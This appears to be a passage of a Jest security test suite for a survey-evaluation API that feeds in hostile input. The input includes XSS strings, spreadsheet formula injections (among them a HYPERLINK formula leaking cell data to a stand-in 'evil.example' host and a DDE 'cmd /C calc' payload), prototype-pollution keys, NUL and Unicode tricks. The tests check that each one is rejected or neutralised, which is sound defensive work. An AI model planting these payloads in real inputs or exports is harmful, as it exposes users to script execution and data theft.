import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { Model } from 'survey-core';
import type { AnalysisPayload, Questionnaire } from '#domain';
import { renderInlineMarkdown } from '#domain/markdown';
import { startsLikeFormula } from '#domain/spreadsheet-cell';
import { binaryBody, databaseChecksum, parseCsv, readWorkbook, tablesHolding, workbookCells } from '../support/abuse.js';
import {
  Respondent,
  collectingEvaluation,
  filledData,
  forgetFailedLookups,
  makeLinks,
  personalLink,
  sharedLink,
  socleCommun,
  type Socle,
} from '../support/collection.js';
import { addMember, addOrganizationMember, createOrganization, createUser, createWorkspace, databaseFingerprint, type TestUser } from '../support/factories.js';
import { startMailCatcher, type MailCatcher } from '../support/mail.js';
import { startTestApp, type ApiClient, type TestApp } from '../support/test-app.js';

/**
 * A broad sweep of bad and hostile input across the API, one row per case: who calls, what,
 * what must come back (status, and the problem+json shape for a refusal), and for every case
 * that the database is exactly as it was and the server still answers. Texts shown to someone
 * else are stored as given and only ever returned as JSON strings; the narrower suites
 * (bad-input, collection-bad-input, tenant-isolation, analysis-suppression, exports) hold each
 * family case by case.
 */

type Who = 'anonymous' | 'respondent' | 'viewer' | 'facilitator' | 'adminA' | 'contactA1' | 'boardA1' | 'contactA2' | 'adminB';
type Method = 'get' | 'post' | 'put' | 'patch' | 'delete' | 'options';
type Category =
  | 'markup'
  | 'formula'
  | 'type confusion'
  | 'size and depth'
  | 'prototype keys'
  | 'unicode'
  | 'tokens'
  | 'mixed ids'
  | 'mass assignment'
  | 'csrf'
  | 'privilege'
  | 'anonymity';

interface AbuseCase {
  category: Category;
  name: string;
  as: Who;
  method: Method;
  /** the path after /api/v1 */
  path: () => string;
  body?: () => unknown;
  /** a body sent as written (prototype keys, deep nesting, NUL in a key) */
  raw?: () => string;
  /** the Content-Type of a raw body (application/json unless given) */
  rawType?: string;
  headers?: () => Record<string, string>;
  /** the X-CSRF-Token a write carries: the caller's own unless said otherwise */
  csrf?: 'missing' | 'forged' | 'other-session';
  /** a download read as bytes */
  download?: boolean;
  /** runs before the database fingerprint is taken (it may write) */
  prepare?: () => Promise<void>;
  status: number;
  /** a refusal: the problem's code (its `type` is …/problems/<code>) */
  code?: string;
  /** the `errors[].path` expected, in any order (duplicates ignored) */
  paths?: string[];
  /** the `errors[].code` expected of every error */
  errorCode?: string;
  /** the Content-Type of an answer that is not a refusal (application/json unless given) */
  contentType?: RegExp;
  check?: (res: Response) => void | Promise<void>;
}

/** Texts a person types that someone else reads. */
const HOSTILE = {
  title: 'Évaluation <script>alert("titre")</script> 2026',
  organization: 'La Ressourcerie <img src=x onerror=alert(document.cookie)>',
  workspace: 'Réseau "><svg onload=alert(1)> des tiers-lieux',
  theme: '<b onmouseover=alert(1)>Lien social</b>',
  themeDescription: '<a href="javascript:alert(1)">clic</a>',
  reason: '<iframe src="javascript:alert(1)"></iframe> Ce récit montre le chemin parcouru.',
  verbatim: '<script>alert("verbatim")</script> On se sent utiles ici.',
  why: '<img src=x onerror=alert("pourquoi")> parce que',
  piped: '<img src=x onerror=alert("piping")>',
  narrative: '## Synthèse <script>alert("rapport")</script>\n\n[Lire la suite](javascript:alert(1)) <img src=x onerror=alert(2)>',
};
/** Answers that a spreadsheet would run as formulas, one per volunteer. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")',
  '+SUM(A1:A9) plus',
  '-cmd|\' /C calc\'!A0 moins',
  '@SUM(A1:A9) arobase',
  '\t=1+1 tabulation',
  '\r=1+1 retour chariot',
];
const PARTNER_SECRET = 'Partenaire unique du quartier Vaubécourt';
const SCALE = 'q_reponse_besoins';
const VOLUNTEER_TEXT = 'q_recit_initiative';
const PARTNER_TEXT = 'q_recit_territoire';
const DAY = 86_400_000;

/** A question of the organization whose wording pipes another answer in and carries markup. */
const PIPED_QUESTION = {
  dimensionKey: 'lien_social_democratie',
  indicator: {
    key: 'echo_recit',
    title: { fr: 'Écho du récit <script>alert("indicateur")</script>' },
    level: 'resultat',
    kind: 'scale',
    scale: { min: 1, max: 5 },
    scoring: { rule: 'linear', reverse: false },
    dontKnow: 'not_offered',
    questions: [
      {
        key: 'q_echo_recit',
        audiences: ['volunteers'],
        wording: { volunteers: { fr: 'Vous avez raconté « {q_recit_initiative} » <script>alert("piping")</script> [voir](javascript:alert(1)) : est-ce important ?' } },
        required: false,
      },
    ],
  },
};

function customQuestion(wording: string): unknown {
  return {
    ...PIPED_QUESTION,
    indicator: { ...PIPED_QUESTION.indicator, questions: [{ ...PIPED_QUESTION.indicator.questions[0], wording: { volunteers: { fr: wording } } }] },
  };
}

function nested(depth: number, leaf: string): string {
  return '['.repeat(depth) + leaf + ']'.repeat(depth);
}

let t: TestApp;
let smtp: MailCatcher;
const people = {} as Record<Exclude<Who, 'anonymous' | 'respondent'>, TestUser>;
/** Ids and tokens made once for every case. */
const s = {
  A: '',
  A1: '',
  A2: '',
  B: '',
  B1: '',
  socle: undefined as unknown as Socle,
  socleB: undefined as unknown as Socle,
  /** collecting, in A1: volunteers (anonymous, six hostile answers), partners (anonymous, two: under k), staff (confidential) */
  E: '',
  /** a draft in A1, co-designed by its contact */
  D: '',
  /** collecting, in A2 */
  EA2: '',
  /** collecting, in workspace B */
  EB: '',
  volunteersToken: '',
  partnersToken: '',
  revokedToken: '',
  renewedOldToken: '',
  remindedOldToken: '',
  closedToken: '',
  volunteerClientId: '',
  submissionId: '',
  verbatimId: '',
  partnerAnswerId: '',
  sessionId: '',
  themeId: '',
  otherThemeId: '',
  linkA2: '',
  submissionB: '',
  summaryVersion: 0,
};

const ws = (w = s.A) => `/workspaces/${w}`;
const org = (o = s.A1, w = s.A) => `/workspaces/${w}/organizations/${o}`;
const ev = (e = s.E, o = s.A1, w = s.A) => `${org(o, w)}/evaluations/${e}`;
const randomToken = () => randomBytes(16).toString('base64url');

function newEvaluation(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const now = Date.now();
  return {
    frameworkVersionId: s.socle.versionId,
    title: 'Évaluation 2027',
    opensAt: new Date(now - DAY).toISOString(),
    closesAt: new Date(now + 30 * DAY).toISOString(),
    groups: [{ groupKey: 'staff', expectedCount: 5, anonymity: 'anonymous' }],
    ...overrides,
  };
}

/** The version of the report's summary section now (reading the report makes it on first read). */
async function summaryVersion(): Promise<number> {
  const res = await people.facilitator.client.get(`${ev()}/report`);
  expect(res.status).toBe(200);
  return (res.body as { sections: Array<{ key: string; version: number }> }).sections.find((section) => section.key === 'summary')!.version;
}

const save = (data: unknown, extra: Record<string, unknown> = {}) => () => ({ data, locale: 'fr', complete: false, ...extra });

type Cell = { suppressed: true; reason: string } | { suppressed: false; n: number };
interface FigureRow {
  what: string;
  cells: Record<string, Cell>;
}

function figureRows(p: AnalysisPayload): FigureRow[] {
  return [
    ...p.indicators.map((i) => ({ what: `indicator ${i.key}`, cells: i.cells as Record<string, Cell> })),
    ...p.indicators.flatMap((i) => i.questions.map((q) => ({ what: `question ${q.key}`, cells: q.cells as Record<string, Cell> }))),
    ...p.dimensions.map((d) => ({ what: `dimension ${d.key}`, cells: d.cells as Record<string, Cell> })),
  ];
}

/**
 * No figure about fewer than k submissions is shown, and none can be had by subtracting the
 * visible groups from "all": what "all" holds beyond them is nothing, or k submissions or more.
 */
function expectNothingRecoverable(p: AnalysisPayload, k: number): void {
  for (const row of figureRows(p)) {
    for (const [column, cell] of Object.entries(row.cells)) {
      if (cell.suppressed) expect(Object.keys(cell).sort()).toEqual(['reason', 'suppressed']);
      else expect({ row: row.what, column, n: cell.n === 0 || cell.n >= k }).toEqual({ row: row.what, column, n: true });
    }
    const all = row.cells['all'];
    if (!all || all.suppressed) continue;
    const visible = Object.entries(row.cells)
      .filter(([column, cell]) => column !== 'all' && !cell.suppressed)
      .reduce((sum, [, cell]) => sum + (cell as { n: number }).n, 0);
    const remainder = all.n - visible;
    expect({ row: row.what, remainder, safe: remainder === 0 || remainder >= k }).toEqual({ row: row.what, remainder, safe: true });
  }
}

let fullAnalysis: AnalysisPayload;

/** A filtered analysis shows the same cells as the whole one, suppressed the same way. */
function expectSameCells(filtered: AnalysisPayload): void {
  const whole = new Map(figureRows(fullAnalysis).map((row) => [row.what, row.cells]));
  for (const row of figureRows(filtered)) {
    for (const [column, cell] of Object.entries(row.cells)) expect({ row: row.what, column, cell }).toEqual({ row: row.what, column, cell: whole.get(row.what)![column] });
  }
}

async function readCsvExport(res: Response, delimiter: string): Promise<{ header: string[]; rows: string[][]; fields: Array<{ value: string; quoted: boolean }> }> {
  const records = parseCsv(res.body as Buffer, delimiter);
  const [header, ...rows] = records;
  return { header: header!.map((f) => f.value), rows: rows.map((r) => r.map((f) => f.value)), fields: records.flat() };
}

function expectNoFormula(fields: Array<{ value: string; quoted: boolean }>): void {
  for (const field of fields) {
    if (!field.quoted && /^-?\d+([.,]\d+)?$/.test(field.value)) continue;
    expect({ field: field.value, formula: startsLikeFormula(field.value) }).toEqual({ field: field.value, formula: false });
  }
}

const cases: AbuseCase[] = [
  // ——— Markup and script in texts shown to someone else: stored as given, returned as JSON strings ———
  {
    category: 'markup',
    name: 'an evaluation title with a script, read by a board member',
    as: 'boardA1',
    method: 'get',
    path: () => ev(),
    status: 200,
    check: (res) => expect(res.body.title).toBe(HOSTILE.title),
  },
  {
    category: 'markup',
    name: 'an organization name with an onerror image, read by its contact',
    as: 'contactA1',
    method: 'get',
    path: () => org(),
    status: 200,
    check: (res) => expect(res.body.name).toBe(HOSTILE.organization),
  },
  {
    category: 'markup',
    name: 'a workspace name with an svg onload, read by a viewer',
    as: 'viewer',
    method: 'get',
    path: () => ws(),
    prepare: async () => {
      expect((await people.adminA.client.patch(ws(), { name: HOSTILE.workspace })).status).toBe(200);
    },
    status: 200,
    check: (res) => expect(res.body.name).toBe(HOSTILE.workspace),
  },
  {
    category: 'markup',
    name: 'the evaluation title and organization name on the respondent page',
    as: 'respondent',
    method: 'get',
    path: () => `/r/${s.volunteersToken}`,
    status: 200,
    check: (res) => {
      expect(res.body.evaluation).toMatchObject({ title: HOSTILE.title, organizationName: HOSTILE.organization });
      expect(res.headers['referrer-policy']).toBe('no-referrer');
    },
  },
  {
    category: 'markup',
    name: 'a custom question wording with a script, a javascript: link and an answer piped in',
    as: 'contactA1',
    method: 'get',
    path: () => `${ev(s.D)}/questionnaires/volunteers`,
    prepare: async () => {
      const res = await people.contactA1.client.patch(ev(s.D), { customQuestions: [PIPED_QUESTION] });
      expect({ status: res.status, errors: res.body.errors as unknown }).toEqual({ status: 200, errors: undefined });
    },
    status: 200,
    check: (res) => {
      const survey = (res.body as Questionnaire).survey;
      const elements = survey.pages.flatMap((page) => page.elements);
      const element = elements.find((e) => e.name === 'q_echo_recit')!;
      // Stored and compiled as written…
      expect(element.title.fr).toBe(PIPED_QUESTION.indicator.questions[0]!.wording.volunteers.fr);
      // …into a questionnaire with no raw-HTML element or property SurveyJS would render as is.
      expect(JSON.stringify(survey)).not.toMatch(/"(completedHtml|html|completedBeforeHtml|loadingHtml)"|"type":"html"/);
      // In the respondent's browser, the answer is piped in first and the whole title then goes
      // through the same inert markdown: the markup of the answer and of the wording is text.
      const model = new Model(survey);
      model.onTextMarkdown.add((_survey, options) => {
        options.html = renderInlineMarkdown(options.text);
      });
      model.setValue(VOLUNTEER_TEXT, HOSTILE.piped);
      const html = model.getQuestionByName('q_echo_recit').locTitle.renderedHtml;
      expect(html).toContain('&lt;img src=x onerror=alert(&quot;piping&quot;)&gt;');
      expect(html).toContain('&lt;script&gt;');
      expect(html).not.toMatch(/<img|<script|<a /i);
    },
  },
  {
    category: 'markup',
    name: 'a theme label and description with markup, read by a viewer',
    as: 'viewer',
    method: 'get',
    path: () => `${ev()}/themes`,
    prepare: async () => {
      const res = await people.contactA1.client.post(`${ev()}/themes`, { label: HOSTILE.theme, description: HOSTILE.themeDescription });
      expect(res.status).toBe(201);
    },
    status: 200,
    check: (res) => expect(res.body).toEqual(expect.arrayContaining([expect.objectContaining({ label: HOSTILE.theme, description: HOSTILE.themeDescription })])),
  },
  {
    category: 'markup',
    name: 'a story selection reason with an iframe, read by a board member',
    as: 'boardA1',
    method: 'get',
    path: () => `${ev()}/verbatims?selected=true`,
    prepare: async () => {
      expect((await people.facilitator.client.send('put', `${ev()}/verbatims/${s.verbatimId}/selection`, { reason: HOSTILE.reason })).status).toBe(200);
    },
    status: 200,
    check: (res) => expect(res.body.items).toEqual([expect.objectContaining({ id: s.verbatimId, selection: expect.objectContaining({ reason: HOSTILE.reason }) })]),
  },
  {
    category: 'markup',
    name: 'free-text answers and comments with markup, listed as verbatims',
    as: 'contactA1',
    method: 'get',
    path: () => `${ev()}/verbatims?groupKey=volunteers&limit=100`,
    // Listing masks texts on first read; read once so the case itself writes nothing.
    prepare: async () => {
      expect((await people.contactA1.client.get(`${ev()}/verbatims?groupKey=volunteers&limit=100`)).status).toBe(200);
    },
    status: 200,
    check: (res) => {
      const texts = (res.body.items as Array<{ text: string }>).map((item) => item.text);
      expect(texts).toContain(HOSTILE.verbatim);
      expect(texts).toContain(HOSTILE.why);
    },
  },
  {
    category: 'markup',
    name: 'a report section narrative with a script, a javascript: link and an image',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/report`,
    prepare: async () => {
      const version = await summaryVersion();
      const res = await people.contactA1.client.send('put', `${ev()}/report/sections/summary`, { baseVersion: version, narrative: HOSTILE.narrative });
      expect({ status: res.status, errors: res.body.errors as unknown }).toEqual({ status: 200, errors: undefined });
    },
    status: 200,
    check: (res) => expect((res.body as { sections: Array<{ key: string; narrative: string }> }).sections.find((section) => section.key === 'summary')!.narrative).toBe(HOSTILE.narrative),
  },
  {
    category: 'markup',
    name: 'markup as the name of an unknown field is echoed in problem+json only',
    as: 'facilitator',
    method: 'patch',
    path: () => ev(s.D),
    body: () => ({ '<script>alert(1)</script>': 1 }),
    status: 400,
    code: 'validation-failed',
    paths: ['<script>alert(1)</script>'],
    errorCode: 'unknown-field',
  },
  {
    category: 'markup',
    name: 'markup in an unknown API path, asked for as HTML',
    as: 'anonymous',
    method: 'get',
    path: () => '/<script>alert(1)</script>',
    headers: () => ({ Accept: 'text/html' }),
    status: 404,
    code: 'not-found',
  },
  {
    category: 'markup',
    name: 'an evaluation asked for as HTML still answers JSON',
    as: 'boardA1',
    method: 'get',
    path: () => ev(),
    headers: () => ({ Accept: 'text/html' }),
    status: 200,
    check: (res) => expect(res.body.title).toBe(HOSTILE.title),
  },

  // ——— Formula injection in exports ———
  {
    category: 'formula',
    name: 'answers starting with = + - @ tab or CR are neutralised in the CSV',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/exports/submissions.csv?codes=true&locale=en`,
    download: true,
    status: 200,
    contentType: /^text\/csv; charset=utf-8/,
    check: async (res) => {
      const csv = await readCsvExport(res, ',');
      expectNoFormula(csv.fields);
      for (const marker of ['Cliquez ici', 'SUM(A1:A9) plus', "calc'!A0", 'arobase', 'tabulation', 'retour chariot']) {
        const field = csv.fields.find((f) => f.value.includes(marker));
        expect({ marker, field: field?.value.startsWith("'") }).toEqual({ marker, field: true });
      }
    },
  },
  {
    category: 'formula',
    name: 'the same answers in the XLSX are apostrophed text, never a formula cell',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/exports/submissions.xlsx?locale=fr`,
    download: true,
    status: 200,
    contentType: /^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/,
    check: async (res) => {
      const cells = workbookCells(await readWorkbook(res.body as Buffer));
      for (const cell of cells) {
        expect([ExcelJS.ValueType.Number, ExcelJS.ValueType.String, ExcelJS.ValueType.Date]).toContain(cell.type);
        if (typeof cell.value === 'string') expect({ at: cell.address, formula: startsLikeFormula(cell.value) }).toEqual({ at: cell.address, formula: false });
      }
      expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining([`'${FORMULAS[0]}`, `'${FORMULAS[3]}`]));
    },
  },

  // ——— Type confusion ———
  { category: 'type confusion', name: 'a number for an evaluation title', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ title: 42 }), status: 400, code: 'validation-failed', paths: ['title'] },
  { category: 'type confusion', name: 'an object for the groups array', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ groups: { staff: 5 } }), status: 400, code: 'validation-failed', paths: ['groups'] },
  {
    category: 'type confusion',
    name: '"5" for an expected count',
    as: 'facilitator',
    method: 'post',
    path: () => `${org()}/evaluations`,
    body: () => newEvaluation({ groups: [{ groupKey: 'staff', expectedCount: '5', anonymity: 'anonymous' }] }),
    status: 400,
    code: 'validation-failed',
    paths: ['groups[0].expectedCount'],
  },
  { category: 'type confusion', name: 'null for a required opening date', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ opensAt: null }), status: 400, code: 'validation-failed', paths: ['opensAt'] },
  { category: 'type confusion', name: 'a boolean for k', as: 'facilitator', method: 'patch', path: () => ev(s.D), body: () => ({ kThreshold: true }), status: 400, code: 'validation-failed', paths: ['kThreshold'] },
  { category: 'type confusion', name: 'an array for a status change', as: 'facilitator', method: 'post', path: () => `${ev()}/transitions`, body: () => ({ to: ['closed'] }), status: 400, code: 'validation-failed', paths: ['to'] },
  { category: 'type confusion', name: 'a number for an exclusion reason', as: 'facilitator', method: 'post', path: () => `${ev()}/submissions/${s.submissionId}/exclusion`, body: () => ({ reason: 123 }), status: 400, code: 'validation-failed', paths: ['reason'] },
  { category: 'type confusion', name: 'a string for the list of theme ids', as: 'facilitator', method: 'put', path: () => `${ev()}/verbatims/${s.verbatimId}/themes`, body: () => ({ themeIds: s.themeId }), status: 400, code: 'validation-failed', paths: ['themeIds'] },
  { category: 'type confusion', name: '"10" for a shared link’s cap', as: 'facilitator', method: 'post', path: () => `${ev()}/links`, body: () => ({ groupKey: 'volunteers', kind: 'shared', maxSubmissions: '10' }), status: 400, code: 'validation-failed', paths: ['maxSubmissions'] },
  {
    category: 'type confusion',
    name: 'an operator object for an answer',
    as: 'respondent',
    method: 'put',
    path: () => `/r/${s.volunteersToken}/submissions/${randomUUID()}`,
    body: save({ [SCALE]: { $gt: 0 } }),
    status: 422,
    code: 'invalid-answers',
    paths: [`data.${SCALE}`],
    errorCode: 'invalid_type',
  },
  { category: 'type confusion', name: 'a string for the consent object', as: 'respondent', method: 'put', path: () => `/r/${s.volunteersToken}/submissions/${randomUUID()}`, body: save({}, { consent: 'Camille' }), status: 400, code: 'validation-failed', paths: ['consent'] },

  // ——— Size and depth ———
  {
    category: 'size and depth',
    name: 'custom questions over the body limit',
    as: 'contactA1',
    method: 'patch',
    path: () => ev(s.D),
    body: () => ({ customQuestions: [{ dimensionKey: 'x'.repeat(1_100_000) }] }),
    status: 413,
    code: 'payload-too-large',
  },
  {
    category: 'size and depth',
    name: 'custom questions nested 10,000 levels deep',
    as: 'contactA1',
    method: 'patch',
    path: () => ev(s.D),
    raw: () => `{"customQuestions":[${nested(10_000, '1')}]}`,
    status: 400,
    code: 'validation-failed',
    paths: ['customQuestions'],
    errorCode: 'too-deep',
  },
  {
    category: 'size and depth',
    name: 'paper answers nested 10,000 levels deep',
    as: 'facilitator',
    method: 'post',
    path: () => `${ev()}/paper-submissions`,
    raw: () => `{"groupKey":"volunteers","clientId":"${randomUUID()}","locale":"fr","data":{"${SCALE}":${nested(10_000, '4')}}}`,
    status: 400,
    code: 'validation-failed',
    paths: ['data'],
    errorCode: 'too-deep',
  },
  {
    category: 'size and depth',
    name: 'a consensus answer nested 10,000 levels deep',
    as: 'facilitator',
    method: 'put',
    path: () => `${ev()}/sessions/${s.sessionId}/consensus/${SCALE}`,
    raw: () => `{"value":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}`,
    status: 400,
    code: 'validation-failed',
    paths: ['value'],
    errorCode: 'too-deep',
  },
  {
    category: 'size and depth',
    name: 'a theme label of two million characters',
    as: 'contactA1',
    method: 'post',
    path: () => `${ev()}/themes`,
    body: () => ({ label: 'x'.repeat(2_000_000) }),
    status: 413,
    code: 'payload-too-large',
  },

  // ——— Prototype keys (the stored data must not have them either: see the last test) ———
  {
    category: 'prototype keys',
    name: '__proto__ in a custom question',
    as: 'contactA1',
    method: 'patch',
    path: () => ev(s.D),
    raw: () => '{"customQuestions":[{"dimensionKey":"lien_social_democratie","indicator":{"__proto__":{"polluted":"yes"}}}]}',
    status: 400,
    code: 'validation-failed',
    paths: ['customQuestions[0].indicator.__proto__'],
    errorCode: 'unknown-field',
  },
  {
    category: 'prototype keys',
    name: 'constructor.prototype in paper answers',
    as: 'facilitator',
    method: 'post',
    path: () => `${ev()}/paper-submissions`,
    raw: () => `{"groupKey":"volunteers","clientId":"${randomUUID()}","locale":"fr","data":{"constructor":{"prototype":{"polluted":"yes"}}}}`,
    status: 400,
    code: 'validation-failed',
    paths: ['data.constructor'],
    errorCode: 'unknown-field',
  },
  {
    category: 'prototype keys',
    name: '__proto__ in a consensus answer',
    as: 'facilitator',
    method: 'put',
    path: () => `${ev()}/sessions/${s.sessionId}/consensus/${SCALE}`,
    raw: () => '{"value":{"__proto__":{"polluted":"yes"}}}',
    status: 400,
    code: 'validation-failed',
    paths: ['value.__proto__'],
    errorCode: 'unknown-field',
  },
  {
    category: 'prototype keys',
    name: '__proto__ inside an imported SurveyJS questionnaire',
    as: 'facilitator',
    method: 'post',
    path: () => `${ws()}/frameworks/import`,
    raw: () => '{"format":"surveyjs","document":{"pages":[{"elements":[{"type":"text","name":"q","__proto__":{"polluted":"yes"}}]}]}}',
    status: 400,
    code: 'validation-failed',
    paths: ['document.pages[0].elements[0].__proto__'],
    errorCode: 'unknown-field',
  },
  {
    category: 'prototype keys',
    name: '__proto__ beside a good answer in a respondent’s save',
    as: 'respondent',
    method: 'put',
    path: () => `/r/${s.volunteersToken}/submissions/${randomUUID()}`,
    raw: () => `{"data":{"${SCALE}":4,"__proto__":{"isAdmin":true,"polluted":"yes"}},"locale":"fr","complete":false}`,
    status: 400,
    code: 'validation-failed',
    paths: ['data.__proto__'],
    errorCode: 'unknown-field',
  },
  { category: 'prototype keys', name: '__proto__ in a query string', as: 'boardA1', method: 'get', path: () => `${ev()}/analysis?__proto__=polluted`, status: 400, code: 'validation-failed', paths: ['__proto__'], errorCode: 'unknown-field' },

  // ——— NUL bytes and Unicode tricks ———
  { category: 'unicode', name: 'NUL in an evaluation title', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ title: 'Évaluation\u0000 2027' }), status: 400, code: 'validation-failed', paths: ['title'], errorCode: 'matches' },
  {
    category: 'unicode',
    name: 'NUL in a custom question wording',
    as: 'contactA1',
    method: 'patch',
    path: () => ev(s.D),
    body: () => ({ customQuestions: [customQuestion('Une question\u0000 piégée ?')] }),
    status: 400,
    code: 'validation-failed',
    paths: ['customQuestions[0].indicator.questions[0].wording.volunteers.fr'],
    errorCode: 'nul_character',
  },
  { category: 'unicode', name: 'NUL in a theme label', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Lien\u0000social' }), status: 400, code: 'validation-failed', paths: ['label'], errorCode: 'matches' },
  {
    category: 'unicode',
    name: 'NUL in a story selection reason',
    as: 'facilitator',
    method: 'put',
    path: () => `${ev()}/verbatims/${s.verbatimId}/selection`,
    body: () => ({ reason: 'Un récit qui compte\u0000 pour le rapport.' }),
    status: 400,
    code: 'validation-failed',
    paths: ['reason'],
    errorCode: 'matches',
  },
  { category: 'unicode', name: 'NUL in an exclusion reason', as: 'facilitator', method: 'post', path: () => `${ev()}/submissions/${s.submissionId}/exclusion`, body: () => ({ reason: 'doublon\u0000' }), status: 400, code: 'validation-failed', paths: ['reason'], errorCode: 'matches' },
  { category: 'unicode', name: 'NUL in a verbatim search', as: 'contactA1', method: 'get', path: () => `${ev()}/verbatims?q=utiles%00`, status: 400, code: 'validation-failed', paths: ['q'], errorCode: 'matches' },
  { category: 'unicode', name: 'NUL in consensus reasons', as: 'facilitator', method: 'put', path: () => `${ev()}/sessions/${s.sessionId}/consensus/${SCALE}`, body: () => ({ value: 4, reasons: 'accord\u0000' }), status: 400, code: 'validation-failed', paths: ['reasons'], errorCode: 'matches' },
  {
    category: 'unicode',
    name: 'NUL in a report narrative',
    as: 'contactA1',
    method: 'put',
    path: () => `${ev()}/report/sections/summary`,
    body: () => ({ baseVersion: s.summaryVersion, narrative: 'Synthèse\u0000' }),
    prepare: async () => {
      s.summaryVersion = await summaryVersion();
    },
    status: 400,
    code: 'validation-failed',
    paths: ['narrative'],
    errorCode: 'matches',
  },
  {
    category: 'unicode',
    name: 'a lone surrogate in a report narrative',
    as: 'contactA1',
    method: 'put',
    path: () => `${ev()}/report/sections/summary`,
    body: () => ({ baseVersion: s.summaryVersion, narrative: 'Synthèse \uD83D' }),
    prepare: async () => {
      s.summaryVersion = await summaryVersion();
    },
    status: 400,
    code: 'validation-failed',
    paths: ['narrative'],
    errorCode: 'matches',
  },
  { category: 'unicode', name: 'NUL in the name of a field', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, raw: () => '{"label":"Lien","la\\u0000bel":"x"}', status: 400, code: 'validation-failed', paths: ['la\u0000bel'], errorCode: 'unknown-field' },
  { category: 'unicode', name: 'NUL in a link token', as: 'respondent', method: 'get', path: () => `/r/${s.volunteersToken.slice(0, 10)}%00${s.volunteersToken.slice(10)}`, status: 404, code: 'link-invalid' },
  { category: 'unicode', name: 'a right-to-left override in an evaluation title', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ title: 'Bilan \u202Efdp.exe' }), status: 400, code: 'validation-failed', paths: ['title'], errorCode: 'matches' },
  { category: 'unicode', name: 'a right-to-left override in a theme label', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Lien \u202Elaicos' }), status: 400, code: 'validation-failed', paths: ['label'], errorCode: 'matches' },
  { category: 'unicode', name: 'a lone surrogate in an evaluation title', as: 'facilitator', method: 'post', path: () => `${org()}/evaluations`, body: () => newEvaluation({ title: 'Évaluation \uD800 2027' }), status: 400, code: 'validation-failed', paths: ['title'] },
  { category: 'unicode', name: 'a lone surrogate in a theme label', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Lien \uDC00' }), status: 400, code: 'validation-failed', paths: ['label'] },
  {
    category: 'unicode',
    name: 'a lone surrogate in a custom question wording',
    as: 'contactA1',
    method: 'patch',
    path: () => ev(s.D),
    body: () => ({ customQuestions: [customQuestion('Une question \uD83D piégée ?')] }),
    status: 400,
    code: 'validation-failed',
    paths: ['customQuestions[0].indicator.questions[0].wording.volunteers.fr'],
  },
  {
    category: 'unicode',
    name: 'a lone surrogate in a new framework’s content',
    as: 'facilitator',
    method: 'post',
    path: () => `${ws()}/frameworks`,
    body: () => ({ name: 'Référentiel piégé', content: { ...s.socle.content, title: { fr: 'Référentiel \uDE00' } } }),
    status: 400,
    code: 'validation-failed',
    paths: ['content.title.fr'],
    errorCode: 'invalid_unicode',
  },
  {
    category: 'unicode',
    name: 'a lone surrogate in an imported SurveyJS questionnaire',
    as: 'facilitator',
    method: 'post',
    path: () => `${ws()}/frameworks/import`,
    body: () => ({ format: 'surveyjs', document: { title: 'Questionnaire \uD800', pages: [{ elements: [{ type: 'rating', name: 'q1', title: 'Note \uDBFF' }] }] } }),
    status: 400,
    code: 'validation-failed',
  },
  { category: 'unicode', name: 'a lone surrogate in a session code', as: 'anonymous', method: 'post', path: () => '/s/join', body: () => ({ code: 'AB\uD800CD' }), status: 404, code: 'session-not-found' },
  { category: 'unicode', name: 'broken UTF-8 percent-encoding in a link token', as: 'respondent', method: 'get', path: () => '/r/%ED%A0%80%E0%A4%A', status: 400, code: 'validation-failed' },
  {
    category: 'unicode',
    name: 'an encoded surrogate in a verbatim search reads as replacement characters',
    as: 'facilitator',
    method: 'get',
    path: () => `${ev()}/verbatims?q=%ED%A0%80`,
    status: 200,
    check: (res) => expect(res.body).toMatchObject({ items: [], total: 0 }),
  },
  {
    category: 'unicode',
    name: 'a theme label that differs from another only by a zero-width space',
    as: 'contactA1',
    method: 'post',
    path: () => `${ev()}/themes`,
    body: () => ({ label: 'Réem\u200Bploi' }),
    status: 409,
    code: 'conflict',
    paths: ['label'],
  },
  { category: 'unicode', name: 'a theme label in NFD where the NFC one exists', as: 'contactA1', method: 'post', path: () => `${ev()}/themes`, body: () => ({ label: 'Re\u0301emploi' }), status: 409, code: 'conflict', paths: ['label'] },
  {
    category: 'unicode',
    name: 'organization names in NFD are read back in NFC; a zero-width space is kept as typed',
    as: 'facilitator',
    method: 'get',
    path: () => `${ws()}/organizations`,
    prepare: async () => {
      for (const name of ['Le Cafe\u0301 des habitants', 'Le Café des\u200B habitants']) expect((await people.facilitator.client.post(`${ws()}/organizations`, { name })).status).toBe(201);
    },
    status: 200,
    check: (res) => {
      const names = (res.body as Array<{ name: string }>).map((o) => o.name);
      expect(names).toContain('Le Café des habitants');
      expect(names).not.toContain('Le Cafe\u0301 des habitants');
      // Organization names are not unique in a workspace: the look-alike is a second organization.
      expect(names).toContain('Le Café des\u200B habitants');
    },
  },

  // ——— Link tokens: guessing and replay ———
  { category: 'tokens', name: 'a random token', as: 'respondent', method: 'get', path: () => `/r/${randomToken()}`, status: 404, code: 'link-invalid' },
  { category: 'tokens', name: 'a truncated token', as: 'respondent', method: 'get', path: () => `/r/${s.volunteersToken.slice(0, -1)}`, status: 404, code: 'link-invalid' },
  {
    category: 'tokens',
    name: 'a token with one character changed',
    as: 'respondent',
    method: 'get',
